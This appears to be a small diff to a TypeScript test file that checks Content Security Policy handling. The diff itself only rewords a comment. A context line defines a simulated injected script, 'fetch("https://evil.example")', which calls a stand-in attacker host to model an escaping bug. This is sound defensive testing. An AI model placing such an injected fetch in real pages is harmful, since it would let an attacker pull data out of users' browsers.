@@ -10,7 +10,7 @@ const ownScript = 'start("a page")';
 const injectedScript = 'fetch("https://evil.example")';
 const toHash = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
 
-/** A page with injected scripts, as an escaping bug would produce. */
+/** Renders a page with injected scripts, as an escaping bug would produce. */
 const render: RenderPage = async (_, __, nonce) => {
 	nonces.push(nonce);
 	const html = [
